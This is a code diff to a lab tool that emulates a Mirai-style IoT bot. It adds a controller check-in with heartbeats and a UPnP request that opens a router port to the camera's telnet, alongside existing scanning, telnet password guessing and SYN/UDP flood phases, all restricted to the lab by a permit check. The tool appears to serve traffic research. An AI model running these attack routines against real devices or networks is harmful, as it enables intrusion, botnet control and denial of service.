@@ -1,6 +1,8 @@
-"""What the camera does once it is a bot: scan, guess passwords, flood. Runs only inside the lab (see `guard`).
+"""What the camera does once it is a bot: scan, guess passwords, flood; call its controller and have a port opened.
 
-    python -m lab.bot --state FILE scan | guess HOST | synflood HOST | udpflood HOST
+    python -m lab.bot --state FILE scan | guess HOST | synflood HOST | udpflood HOST | call | map
+
+Runs only inside the lab (see `guard`).
 
 Prints one JSON line: what it did, when it began and ended (s, UTC), how many packets or attempts.
 """
@@ -9,12 +11,13 @@ import argparse
 import json
 import random
 import socket
+import subprocess
 import time
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any, Final
 
-from lab import packets, plan
+from lab import igd, packets, plan
 from lab.guard import Permit, obtain
 from lab.telnet import attempt
 
@@ -26,7 +29,11 @@ UDP_PACKETS: Final = 2_100
 UDP_RATE: Final = 350.0
 UDP_PAYLOAD: Final = 32
 GUESS_PAUSE: Final = 0.25  # s between two connections
+PINGS: Final = 9
+PING_EVERY: Final = 5.0  # s between two signs of life; Mirai's are a minute apart
 SETTLE: Final = 1.0  # s for the last answers to arrive: they belong to the phase
+
+HOSTS: Final = {"call": plan.CNC_IP, "map": plan.GATEWAY_IP}
 
 Sender = Callable[[str, bytes], None]
 
@@ -107,6 +114,29 @@ def udpflood(permit: Permit, host: str, seed: int = 3) -> int:
     return UDP_PACKETS
 
 
+def call(permit: Permit, host: str) -> int:
+    """Register with the controller and send signs of life, as Mirai does: four bytes and a name, then two bytes."""
+    with socket.create_connection((permit.check(host), plan.CNC_PORT), timeout=10) as link:
+        link.sendall(b"\x00\x00\x00\x01" + b"\x08lab.arm7")
+        link.recv(64)
+        for _ in permit.paced(PINGS, 1 / PING_EVERY):
+            link.sendall(b"\x00\x00")
+            link.recv(64)
+    return PINGS
+
+
+def open_port(permit: Permit, host: str) -> int:
+    """Have the router open a port that leads to the camera's telnet."""
+    base = f"http://{permit.check(host)}:{igd.PORT}"
+    curl = ["curl", "--silent", "--max-time", "5", "--output", "/dev/null"]
+    subprocess.run([*curl, base + "/rootDesc.xml"], check=True)
+    headers = ["--header", 'Content-Type: text/xml; charset="utf-8"']
+    headers += ["--header", f'SOAPAction: "{igd.SERVICE}#AddPortMapping"']
+    body = igd.request(permit.source, 23, plan.MAPPED_PORT)
+    subprocess.run([*curl, *headers, "--data-binary", "@-", base + igd.CONTROL], input=body, text=True, check=True)
+    return 1
+
+
 def _sender(permit: Permit) -> Sender:
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 
@@ -119,16 +149,18 @@ def _sender(permit: Permit) -> Sender:
 def main() -> None:
     parser = argparse.ArgumentParser(description="Emulates a bot, inside the lab of record.py only.")
     parser.add_argument("--state", type=Path, required=True, help="the file in which the lab notes its namespaces")
-    parser.add_argument("phase", choices=["scan", "guess", "synflood", "udpflood"])
-    parser.add_argument("host", nargs="?", default=plan.VICTIM_IP)
+    parser.add_argument("phase", choices=["scan", "guess", "synflood", "udpflood", "call", "map"])
+    parser.add_argument("host", nargs="?")
     arguments = parser.parse_args()
     permit = obtain(arguments.state)
-    permit.check(arguments.host)
+    host = permit.check(arguments.host or HOSTS.get(arguments.phase, plan.VICTIM_IP))
     actions: dict[str, Callable[[], int]] = {
         "scan": lambda: scan(permit),
-        "guess": lambda: guess(permit, arguments.host),
-        "synflood": lambda: synflood(permit, arguments.host),
-        "udpflood": lambda: udpflood(permit, arguments.host),
+        "guess": lambda: guess(permit, host),
+        "synflood": lambda: synflood(permit, host),
+        "udpflood": lambda: udpflood(permit, host),
+        "call": lambda: call(permit, host),
+        "map": lambda: open_port(permit, host),
     }
     done: dict[str, Any] = {"phase": arguments.phase, "start": time.time()}
     done["count"] = actions[arguments.phase]()
